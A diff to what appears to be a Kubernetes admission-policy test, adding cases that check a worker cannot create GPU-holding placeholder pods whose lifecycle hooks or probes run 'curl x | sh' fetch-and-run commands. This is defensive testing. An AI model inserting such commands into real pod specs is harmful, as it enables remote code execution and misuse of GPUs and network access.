@@ -232,6 +232,18 @@ def test_the_node_pools_worker_may_create_and_delete_only_the_placeholders_the_p
         "a second container": lambda spec, container, meta: spec["containers"].append(dict(container, name="x")),
         "an init container": lambda spec, container, meta: spec.update(initContainers=[dict(container, name="x")]),
         "no placeholder labels": lambda spec, container, meta: meta.update(labels={"app": "miner"}),
+        # NOTE: each runs a command of its choosing in the placeholder, which holds the node's GPUs (the device plugin
+        # hands them to it) and reaches anywhere (no egress policy selects it): the image's own `sleep` is not all.
+        "a command on start": lambda spec, container, meta: container.update(
+            lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "curl x | sh"]}}}),
+        "a command on stop": lambda spec, container, meta: container.update(
+            lifecycle={"preStop": {"exec": {"command": ["sh", "-c", "curl x | sh"]}}}),
+        "a liveness probe's command": lambda spec, container, meta: container.update(
+            livenessProbe={"exec": {"command": ["sh", "-c", "curl x | sh"]}, "periodSeconds": 10}),
+        "a readiness probe's command": lambda spec, container, meta: container.update(
+            readinessProbe={"exec": {"command": ["sh", "-c", "curl x | sh"]}}),
+        "a startup probe's command": lambda spec, container, meta: container.update(
+            startupProbe={"exec": {"command": ["sh", "-c", "curl x | sh"]}}),
     }
     for what, change in hostile.items():
         assert _denied(rendered, worker, "CREATE", changed(change)), f"admitted a placeholder with {what}"
